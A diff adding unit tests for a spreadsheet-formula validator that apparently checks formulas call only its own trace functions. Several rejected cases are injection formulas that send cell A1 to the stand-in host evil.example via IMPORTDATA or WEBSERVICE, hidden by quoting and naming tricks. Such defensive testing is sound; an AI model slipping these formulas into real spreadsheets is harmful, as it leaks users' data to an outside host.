@@ -38,6 +38,38 @@ it('hides no other call in what stands between brackets', () => {
   expect(callsOnlyTrace('=TRACE_TECH(A2)&[IMPORTDATA(A2)]')).toBe(false);
 });
 
+it.each([
+  // Apostrophes in titles of tables are no quotes.
+  [`=TRACE_TECH(T[it's])&IMPORTDATA("https://evil.example/?"&A1)&T[it's]`],
+  [`=TRACE_TECH(T[a'[])&WEBSERVICE("https://evil.example/?"&A1)&T[b'[]`],
+  // Functions of the file's own whose names end like one that is harmless.
+  ['=TRACE_TECH(A2)&ÄT(A1)'],
+  ['=TRACE_TECH(A2)&\\T(A1)'],
+  ['=TRACE_TECH(A2)&Sheet2!T(A1)'],
+  [`=TRACE_TECH(A2)&'Sheet 2'!T(A1)`],
+  // A function without a parenthesis of its own.
+  ['=TRACE_TECH(A2)&MAP(A1:A9,EVIL)'],
+  ['=TRACE_TECH(A2)&BYROW(A1:A9;WEBSERVICE)'],
+  ['=TRACE_TECH(A2)&MAP(A1:A9,LAMBDA(x,x),IF(TRUE,EVIL))'],
+  ['=TRACE_TECH(A2)&IF(TRUE,EVIL)(A1)'],
+  ['=TRACE_TECH(A2)&EVIL  \n (A1)'],
+])('%s calls more than Trace', (formula) => {
+  expect(callsOnlyTrace(formula)).toBe(false);
+});
+
+it.each([
+  ['=IFERROR(TRACE_TECH(A2),"")'],
+  ['=MAP(A2:A9,LAMBDA(company,TRACE_TECH(company)))'],
+  ['=MAP({"a.com";"b.com"};LAMBDA(x;IF(x="";"";TRACE_TECH(x))))'],
+  ['=BYROW(A2:B9, LAMBDA(row, TRACE_COMPANY(INDEX(row,1),"name")))'],
+  [`=IF([@['# staff]]>1,TRACE_TECH([@['# site]]),"")`],
+  [`=TRACE_TECH('It''s mine'!A2)&(1+2)`],
+  ['=LET(x,A2,TRACE_TECH(x))'],
+  ['=MAP (A2:A9,\n  LAMBDA (x, IF ( x = "" , "" , TRACE_TECH ( x ))))'],
+])('%s calls nothing else', (formula) => {
+  expect(callsOnlyTrace(formula)).toBe(true);
+});
+
 it('a development build calls nothing but Trace either, and may read lists', () => {
   const formulas = [
     '=DEV.TRACE_PARTNERS(A2)',
